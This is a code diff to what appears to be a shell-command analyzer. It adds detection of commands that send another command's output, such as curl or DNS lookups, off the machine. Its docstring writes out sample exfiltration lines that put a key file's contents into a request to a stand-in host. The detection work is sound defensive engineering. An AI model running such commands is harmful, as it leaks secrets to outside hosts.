@@ -23,6 +23,7 @@ _GIT_SETTING = pattern(
 )
 _GIT_READS = {"--get", "--list", "-l", "--get-all"}
 _QUIET_PAGERS = ("", "cat", "less", "true", "false")
+_RESOLVERS = frozenset(["ping", "ping6", "dig", "host", "nslookup", "whois"])
 _READS = {"GET", "HEAD", "OPTIONS"}
 _ASKS_NOTHING = frozenset(["-l", "--list", "--version", "--help", "-V", "-version"])
 _REDIS_LOOKS = ("--scan", "--stat", "--bigkeys", "--memkeys", "--latency")
@@ -96,6 +97,21 @@ def _methods(state: State, known: Entry, args: Args, command: Command) -> None:
         state.add("send", known.name, method, is_local=False)
 
 
+def _fetches(state: State, known: Entry, args: Args, command: Command) -> None:
+    """`curl "http://x/$(cat key)"`, `dig $(cat key).example.org`: what a command prints is sent."""
+    asked, given = known.listed("fetches"), {arg.text for arg in args[1:]}
+    if asked != ["all"] and given.isdisjoint(asked):
+        return
+    is_carried = any(arg.has_output or arg.stream for arg in args[1:])
+    is_looked_up = known.name in _RESOLVERS and any(arg.text is None for arg in args[1:])
+    if is_carried or is_looked_up:
+        state.add("send", known.name, "what a command prints", is_local=False)
+    for option in {arg.start for arg in args}.intersection(known.listed("proxies")):
+        value = next(iter(texts_of(known, option, args)), None)
+        if option != "-e" or "proxy" in (value or "proxy"):
+            state.add("send", known.name, f"{option}: what is asked goes there", is_local=False)
+
+
 def openssl(state: State, known: Entry, args: Args, command: Command) -> None:
     """`openssl s_client` sends what it reads; looking at a certificate sends nothing."""
     has_nothing = any(each.word.literal == "/dev/null" for each in command.redirects)
@@ -157,4 +173,5 @@ BY_KEY: Mapping[str, Callable[[State, Entry, Args, Command], None]] = {
     "asks": _asks,
     "jobs": _jobs,
     "methods": _methods,
+    "fetches": _fetches,
 }
